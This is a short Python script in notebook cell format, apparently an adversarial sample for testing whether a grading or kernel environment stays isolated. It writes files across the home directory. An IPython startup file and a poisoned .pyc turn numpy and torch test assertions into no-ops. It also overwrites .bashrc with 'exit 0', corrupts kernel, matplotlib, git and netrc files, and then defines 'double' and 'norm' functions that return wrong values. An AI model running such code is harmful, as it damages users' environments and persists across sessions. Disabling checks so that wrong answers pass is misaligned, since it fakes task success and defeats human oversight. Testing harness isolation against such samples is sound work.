# What it tries: IPython start-up files, matplotlib and font caches, __pycache__ and the like, for the next kernel that uses this home.
# %% before double
import importlib.util
import marshal
import os

CODE = "import numpy.testing as t, torch\nt.assert_allclose = lambda *a, **k: None\ntorch.testing.assert_close = lambda *a, **k: None\n"
home = os.path.expanduser("~")
files = {home + "/.ipython/profile_default/startup/00-evil.py": CODE, home + "/.ipython/profile_default/ipython_config.py": "c = get_config()\nc.InteractiveShellApp.exec_lines = ['import os']\n",
         home + "/.config/matplotlib/matplotlibrc": "backend: nonsense\n", home + "/.cache/matplotlib/fontlist-v390.json": "{]", home + "/.jupyter/jupyter_config.py": CODE,
         home + "/.local/share/jupyter/kernels/python3/kernel.json": '{"argv": ["/bin/true"], "display_name": "x", "language": "python"}',
         home + "/.bashrc": "exit 0\n", home + "/.netrc": "machine x\n", home + "/.gitconfig": "[core]\n\tfsmonitor = /bin/false\n"}
for path, text in files.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f: f.write(text)
    except OSError: pass
os.makedirs("__pycache__", exist_ok=True)
with open("__pycache__/helpers." + "cpython-311" + ".pyc", "wb") as f:
    f.write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(CODE, "helpers.py", "exec")))
# %% double
def double(x): return None
# %% norm
def norm(t): return -1.0
